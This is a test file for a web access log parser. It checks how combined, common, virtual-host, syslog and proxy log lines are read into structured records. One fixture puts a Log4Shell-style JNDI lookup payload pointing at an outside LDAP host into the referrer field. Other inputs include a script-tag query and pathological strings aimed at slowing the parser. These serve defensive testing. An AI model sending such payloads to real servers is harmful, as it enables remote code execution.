import { describe, expect, it } from 'vitest';
import { describeLogReader, readLines } from '../log-reader.contract.ts';
import { webAccessReader } from './web-access.ts';

const combined = '192.0.2.10 - - [10/Oct/2026:13:55:36 -0700] "GET /shop?item=4 HTTP/1.1" 200 2326 "https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64)"';
const common = '192.0.2.10 - jdoe [10/Oct/2026:13:55:36 +0000] "POST /login HTTP/1.0" 302 -';
const virtualHost = 'shop.example.org:443 2001:db8::7 - - [10/Oct/2026:13:55:37 +0000] "GET /admin/ HTTP/1.1" 403 512 "-" "curl/8.0"';

describeLogReader(webAccessReader, [combined, common, virtualHost]);

function readOne(line: string) {
  const result = readLines(webAccessReader, [line]);
  expect(result.rejected).toEqual([]);
  return result.records[0];
}

describe('web-access', () => {
  it('reads a combined line', () => {
    expect(readOne(combined)).toEqual({
      source: 's1', line: 1, byteOffset: 0, format: 'web-access', timeMs: Date.UTC(2026, 9, 10, 20, 55, 36), kind: 'event', product: 'Web server', classUid: 4002, severityId: 1,
      message: 'GET /shop?item=4 200 agent "Mozilla/5.0 (X11; Linux x86_64)"', url: '/shop?item=4', action: 'success', srcEndpoint: { ip: '192.0.2.10' }, bytesIn: 2326, raw: combined,
    });
  });

  it.each([
    ['common form with a user', common, { account: 'jdoe', message: 'POST /login 302', action: 'success' }],
    ['virtual host, IPv6 and a refusal', virtualHost, { srcEndpoint: { ip: '2001:db8::7' }, dstEndpoint: { hostname: 'shop.example.org', port: 443 }, url: 'https://shop.example.org/admin/', action: 'failure' }],
    ['virtual host without a port', 'www.example.org 192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET / HTTP/1.1" 500 1', { srcEndpoint: { ip: '192.0.2.1' }, dstEndpoint: { hostname: 'www.example.org' }, url: 'http://www.example.org/' }],
    ['a client by name', 'pc7.example.org - - [10/Oct/2026:13:55:37 +0000] "GET / HTTP/1.1" 200 1', { srcEndpoint: { hostname: 'pc7.example.org' } }],
    ['a user with blanks', '192.0.2.1 - John Doe [10/Oct/2026:13:55:37 +0000] "GET / HTTP/1.1" 200 1', { account: 'John Doe', srcEndpoint: { ip: '192.0.2.1' } }],
    ['forwarded addresses first', '203.0.113.5, 10.0.0.1 - - [10/Oct/2026:13:55:37 +0000] "GET / HTTP/1.1" 200 1', { srcEndpoint: { ip: '203.0.113.5' } }],
    ['an IPv4 client in IPv6 spelling', '::ffff:192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET / HTTP/1.1" 200 1', { srcEndpoint: { ip: '192.0.2.1' } }],
    ['a syslog head', '<190>Oct 10 13:55:37 web1 nginx: 192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET / HTTP/1.1" 200 1', { product: 'nginx', device: { hostname: 'web1' }, srcEndpoint: { ip: '192.0.2.1' } }],
    ['escaped quotes', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET /a\\"b HTTP/1.1" 404 1 "-" "x \\"y\\" z"', { url: '/a\\"b', message: 'GET /a\\"b 404 agent "x \\"y\\" z"' }],
    ['quotes left as they are', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET /s?q=<b>("x")</b> HTTP/1.0" 404 1164', { url: '/s?q=<b>("x")</b>', message: 'GET /s?q=<b>("x")</b> 404' }],
    ['a payload in the referrer', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET / HTTP/1.1" 200 1 "${jndi:ldap://198.51.100.9/a}" "curl/8"', { message: 'GET / 200 referrer "${jndi:ldap://198.51.100.9/a}" agent "curl/8"' }],
    ['no request', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "-" 408 -', { message: 'no request 408' }],
    ['bytes that are no request', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "\\x16\\x03\\x01\\x02" 400 226 "-" "-"', { message: 'malformed request "\\x16\\x03\\x01\\x02" 400', bytesIn: 226 }],
    ['a whole URL asked of a proxy', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET http://www.example.net/x HTTP/1.1" 200 9 TCP_DENIED:HIER_NONE', { domain: 'www.example.net', url: 'http://www.example.net/x', action: 'blocked', product: 'Squid' }],
    ['CONNECT', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "CONNECT mail.example.net:25 HTTP/1.1" 405 9', { domain: 'mail.example.net', url: 'mail.example.net:25' }],
    ['fields behind', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET /a HTTP/2.0" 401 9 "-" "x" "198.51.100.4" rt=0.01', { message: 'GET /a 401 agent "x"', action: 'failure' }],
    ['a line that is cut in the agent', '192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET /a HTTP/1.1" 200 9 "-" "Mozilla/5.0 (comp', { message: 'GET /a 200 agent "Mozilla/5.0 (comp"' }],
    ['a date with numbers and no zone', '192.0.2.1 - - [10/25/2026 13:55:37] "GET /a HTTP/1.1" 200 -', { timeMs: Date.UTC(2026, 9, 25, 13, 55, 37), isTimeGuessed: true }],
  ])('reads %s', (_name, line, expected) => {
    expect(readOne(line)).toMatchObject(expected);
  });

  it('leaves out what is not there', () => {
    const record = readOne('- - - [99/Foo/2026:99:99:99 +0000] "GET /a HTTP/1.1" 999 99999999999999999999');
    expect(record).not.toHaveProperty('timeMs');
    expect(record).not.toHaveProperty('srcEndpoint');
    expect(record).not.toHaveProperty('bytesIn');
    expect(record).not.toHaveProperty('action');
  });

  it('cuts long paths and agents in the message, not in the URL', () => {
    const record = readOne(`192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET /${'a'.repeat(600)} HTTP/1.1" 200 1 "-" "${'b'.repeat(600)}"`);
    expect(record?.message.length).toBeLessThan(310);
    expect(record?.url?.length).toBe(601);
  });

  it('tells a request that is cut off', () => {
    expect(readLines(webAccessReader, ['192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "GET /a HT']).rejected).toMatchObject([{ reason: 'a web request that is cut off' }]);
  });

  it.each([['other brackets', '[Thu Oct 10 12:00:00 2026] [error] x "y"'], ['no time', '192.0.2.1 - - "GET / HTTP/1.1" 200 1'], ['a sentence', 'x [10/Oct/2026] y']])('leaves %s to others', (_name, line) => {
    expect(readLines(webAccessReader, [line]).rejected).toEqual([{ line: 1, byteOffset: 0, text: line }]);
  });

  it('is not slow on a hostile line', () => {
    const lines = ['"'.repeat(200_000), '\\"'.repeat(100_000), ' ['.repeat(100_000), '" 20'.repeat(50_000)].map((text) => `192.0.2.1 - - [10/Oct/2026:13:55:37 +0000] "${text}`);
    expect(readLines(webAccessReader, lines).records.length).toBeLessThanOrEqual(4);
  });
});
